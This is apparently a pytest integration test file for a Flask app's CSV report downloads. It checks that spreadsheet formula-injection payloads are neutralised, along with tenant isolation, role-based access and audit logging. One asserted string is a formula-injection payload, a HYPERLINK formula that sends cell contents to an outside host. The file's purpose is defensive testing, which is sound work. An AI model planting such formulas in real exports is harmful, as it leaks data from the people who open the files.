"""The CSV downloads, parsed back with the csv module (SECURITY.md cases 3, 15, 24, 31)."""

from __future__ import annotations

import csv
import io

from flask import Flask

from engage.models import Role
from engage.reports.cells import TRIGGERS, unescape
from engage.reports.csv_export import BOM
from engage.reports.tabular import FEEDBACK_COLUMNS, RESPONSE_COLUMNS
from tests.factories import signed_in
from tests.integration.reports.test_tabular_data import (
    PAYLOAD_PROMPT,
    PAYLOADS,
    SECRET,
    UNICODE,
    scene,
)


def _parse(body: bytes) -> list[list[str]]:
    text = body.decode("utf-8")  # strict: the file is valid UTF-8
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def _url(sla: int, **query: str) -> str:
    args = "&".join(f"{k}={v}" for k, v in query.items())
    return f"/staff/reports/agreement/{sla}.csv" + (f"?{args}" if args else "")


def test_feedback_csv_columns_counts_unicode_and_inert_payloads(app: Flask) -> None:
    s = scene(app)
    client, _ = signed_in(app, Role.ADMIN)
    response = client.get(_url(s.acme_sla))
    assert response.status_code == 200
    assert response.is_streamed
    assert response.mimetype == "text/csv"
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment; filename=engage-report-sla-")
    assert disposition.endswith("-feedback.csv")
    rows = _parse(response.data)
    header, body = rows[0], rows[1:]
    assert header == list(FEEDBACK_COLUMNS)
    assert len(body) == s.feedback
    texts = [row[header.index("text")] for row in body]
    for payload in PAYLOADS:
        assert "'" + payload in texts  # prefixed ...
        assert payload not in texts  # ... never bare
    assert [unescape(t) for t in texts] == [*PAYLOADS, *UNICODE]  # round trip
    for row in body:
        for cell in row:
            assert not cell or cell[0] not in TRIGGERS or _is_number(cell)
    assert SECRET not in response.data.decode()
    # CRLF records, every text field quoted and its quotes doubled (RFC 4180).
    assert response.data.count(b"\r\n") == s.feedback + 1
    assert b'"\'=HYPERLINK(""http://x/?""&A1)"' in response.data


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_numbers_stay_numbers_and_headers_are_neutralised(app: Flask) -> None:
    s = scene(app)
    client, _ = signed_in(app, Role.ADMIN)
    response = client.get(_url(s.acme_sla, rows="responses"))
    assert response.status_code == 200
    assert response.is_streamed
    raw = response.data.decode("utf-8")
    rows = _parse(response.data)
    header = rows[0]
    assert header[: len(RESPONSE_COLUMNS)] == list(RESPONSE_COLUMNS)
    assert header[-1] == "'" + PAYLOAD_PROMPT  # a question title is data too
    (row,) = rows[1:]  # Globex's response is not in Acme's export
    assert row[-3:] == ["4", "-3", "'" + PAYLOADS[0]]
    # -3 is written unquoted: a number, not text (Grafana #17363).
    assert ",4,-3,\"'=HYPERLINK" in raw
    assert SECRET not in raw


def test_quotes_left_out_removes_free_text(app: Flask) -> None:
    s = scene(app)
    client, _ = signed_in(app, Role.ADMIN)
    rows = _parse(client.get(_url(s.acme_sla, quotes="0")).data)
    assert "text" not in rows[0]
    assert len(rows) == s.feedback + 1
    raw = client.get(_url(s.acme_sla, quotes="0", rows="responses")).data.decode()
    assert "HYPERLINK" not in raw


def test_bad_parameters_are_400_not_500(app: Flask) -> None:
    s = scene(app)
    client, _ = signed_in(app, Role.ADMIN)
    for query in ({"months": "abc"}, {"months": "0"}, {"months": "121"},
                  {"quotes": "2"}, {"rows": "everything"}):  # fmt: skip
        assert client.get(_url(s.acme_sla, **query)).status_code == 400, query
    assert client.get("/staff/reports/agreement/999999.csv").status_code == 404
    assert client.get(f"/staff/reports/agreement/{s.acme_sla}.exe").status_code == 404
    assert client.get(_url(s.acme_sla, months="3")).status_code == 200


def test_every_export_is_audited(app: Flask) -> None:
    from sqlalchemy import select

    from engage.extensions import db
    from engage.models import AuditEvent

    s = scene(app)
    client, user_id = signed_in(app, Role.ADMIN)
    assert client.get(_url(s.acme_sla, rows="responses")).status_code == 200
    assert client.get(f"/staff/reports/agreement/{s.acme_sla}.xlsx").status_code == 200
    with app.app_context():
        events = db.session.scalars(
            select(AuditEvent).where(AuditEvent.action == "report.export")
        ).all()
        assert len(events) == 2
        assert all(e.actor_id == user_id for e in events)


def test_access_viewer_403_manager_own_only_with_positive_controls(app: Flask) -> None:
    s = scene(app)
    anonymous = app.test_client().get(_url(s.acme_sla))
    assert anonymous.status_code in (302, 401)
    viewer, _ = signed_in(app, Role.VIEWER)
    assert viewer.get(_url(s.acme_sla)).status_code == 403
    assert viewer.get("/staff/reports/portfolio.csv").status_code == 403
    manager, _ = signed_in(app, Role.MANAGER, customer_ids=[s.acme])
    assert manager.get(_url(s.globex_sla)).status_code == 404
    ok = manager.get(_url(s.acme_sla))  # positive control
    assert ok.status_code == 200
    assert len(_parse(ok.data)) == s.feedback + 1
    # The portfolio export of a manager holds only their customers' feedback.
    portfolio = manager.get("/staff/reports/portfolio.csv")
    assert portfolio.status_code == 200
    assert SECRET not in portfolio.data.decode()
    admin, _ = signed_in(app, Role.ADMIN)  # positive control for the portfolio
    assert SECRET in admin.get("/staff/reports/portfolio.csv").data.decode()
    customer = manager.get(f"/staff/reports/customer/{s.acme}.csv")
    assert customer.status_code == 200
    assert len(_parse(customer.data)) == s.feedback + 1
